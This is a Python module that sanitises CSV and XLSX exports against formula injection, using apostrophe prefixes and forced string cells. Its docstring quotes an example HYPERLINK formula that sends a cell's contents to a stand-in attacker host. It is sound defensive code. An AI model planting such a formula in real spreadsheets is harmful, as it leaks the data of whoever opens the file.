"""Text that people typed, written into a spreadsheet (CSV or XLSX) so that it stays text.

A contact name such as `=HYPERLINK("http://evil.example/?leak="&H3,"x")` is a live formula to
the spreadsheet that opens the file, and can send the sheet's other cells away (CSV/formula
injection). Every download the portal writes goes through these rules:

- CSV: a text cell that a spreadsheet would read as a formula or command (it starts with =, +,
  -, @, a tab or a carriage return) gets a leading apostrophe, which spreadsheets show as text.
  Numbers stay numbers: only str values change, and text that is just a number ("-3", "2.5") is
  no formula and stays as it is.
- XLSX: a text cell is written as a string cell, never as a formula (openpyxl makes any text
  starting with "=" a formula), and characters XML cannot hold are dropped.
"""

import re
from collections.abc import Iterable

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:\.\d+)?")
# The error names a spreadsheet shows (openpyxl's ERROR_CODES): as text, openpyxl would write
# them as error cells.
_ERROR_CODES = frozenset({"#NULL!", "#DIV/0!", "#VALUE!", "#REF!", "#NAME?", "#NUM!", "#N/A"})
# What XML 1.0 (and so XLSX) cannot hold; tab and newlines stay.
_NOT_XML = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def csv_cell(value):
    """`value` as a CSV cell: text a spreadsheet would run gets a leading apostrophe."""
    if (
        isinstance(value, str)
        and value.startswith(FORMULA_START)
        and not _PLAIN_NUMBER.fullmatch(value)
    ):
        return "'" + value
    return value


def csv_row(values: Iterable) -> list:
    return [csv_cell(value) for value in values]


def csv_unescape(text: str) -> str:
    """The text as it was before csv_cell, so that an exported file can be imported again."""
    if text.startswith("'") and text[1:].startswith(FORMULA_START):
        return text[1:]
    return text


def xlsx_cell(sheet, value):
    """An openpyxl write-only cell holding `value`; text is always a string cell."""
    from openpyxl.cell import WriteOnlyCell

    if isinstance(value, str):
        value = _NOT_XML.sub("", value)
    cell = WriteOnlyCell(sheet, value=value)
    if isinstance(value, str):
        cell.data_type = "s"  # never a formula or an error, whatever the text starts with
    return cell


def xlsx_value(sheet, value):
    """`value` ready to append to a write-only sheet as a row's member: as it is, unless it is
    text openpyxl would not write as text (then a string cell, see xlsx_cell). Cheaper than a
    cell for every value when rows are many."""
    if not isinstance(value, str):
        return value
    if value.startswith("=") or value in _ERROR_CODES or _NOT_XML.search(value):
        return xlsx_cell(sheet, value)
    return value


def xlsx_row(sheet, values: Iterable) -> list:
    return [xlsx_value(sheet, value) for value in values]
